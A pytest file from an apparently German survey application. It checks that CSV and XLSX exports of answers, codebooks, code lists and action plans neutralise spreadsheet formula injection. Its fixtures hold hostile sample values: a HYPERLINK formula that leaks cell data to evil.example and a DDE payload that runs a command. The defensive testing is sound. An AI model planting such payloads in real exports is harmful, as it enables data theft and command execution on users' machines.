"""No export can run a formula: a text that starts like one stays text in CSV and XLSX, in
every export – answers with codebook, codes, the action plan – and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from qdialog.actions import services as actions
from qdialog.core.spreadsheets import csv_cell, csv_text, xlsx_append
from tests.surveys.conftest import fresh_token, post_data, respondent, survey  # noqa: F401
from tests.surveys.test_respond import post

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cells_that_would_start_a_formula_are_neutralised(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell(42) == 42 and csv_cell(-3) == -3 and csv_cell("Kurze Wege") == "Kurze Wege"


def test_xlsx_text_is_never_a_formula():
    from openpyxl import Workbook

    book = Workbook()
    xlsx_append(book.active, ["=1+1", 7, "@x", "Text"])
    data = io.BytesIO()
    book.save(data)
    sheet = load_workbook(io.BytesIO(data.getvalue())).active
    cells = list(sheet[1])
    assert [c.data_type for c in cells] == ["s", "n", "s", "s"]
    assert cells[0].value == "=1+1" and cells[0].quotePrefix and cells[1].value == 7


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_answer_exports_keep_formulas_out(client_for, world, survey, respondent):  # noqa: F811
    for text in ATTACKS[:4]:
        post(respondent, survey.codes[ATTACKS.index(text)].code,
             post_data(fresh_token(), q_short=text[:20], q_topics__other=text))
    client = client_for("mia")
    url = lambda fmt: reverse("surveys:answers_export", args=[survey.wave.pk, fmt])  # noqa: E731
    rows = _csv(client.get(url("csv")).content)
    cells = [cell for row in rows[1:] for cell in row]
    for text in ATTACKS[:4]:
        assert "'" + text in cells and text not in cells
    book = load_workbook(io.BytesIO(client.get(url("xlsx")).content))
    sheet = book["Antworten"]
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula anywhere
        q1 = row[header.index("q1")]
        assert q1.data_type == "n" and isinstance(q1.value, int)  # a number stays a number
    texts = {c.value for row in sheet.iter_rows(min_row=2) for c in row}
    assert set(ATTACKS[:4]) <= texts  # kept as typed, as text
    for row in book["Codebuch"].iter_rows():
        assert all(c.data_type != "f" for c in row)


def test_code_list_and_action_plan_keep_formulas_out(client_for, world, survey):  # noqa: F811
    world.m1.name = "=cmd|' /C calc'!A0"
    world.m1.save()
    client = client_for("mia")
    rows = _csv(client.get(reverse("surveys:codes_download", args=[survey.wave.pk, "csv"]))
                .content)
    assert rows[1][1] == "'" + world.m1.name
    actions.action_create(actor=world.people["mia"], municipality=world.m1,
                          fields={"title": "@SUM(1+1)*cmd", "description": "-1+1"})
    rows = _csv(client.get(reverse("actions:export", args=[world.m1.pk])).content)
    assert rows[1][0] == "'@SUM(1+1)*cmd" and rows[1][1] == "'-1+1"


def test_csv_text_round_trips_for_excel():
    text = csv_text([["a", "=b"], [1, "c"]])
    assert text.startswith("\ufeff") and "'=b" in text
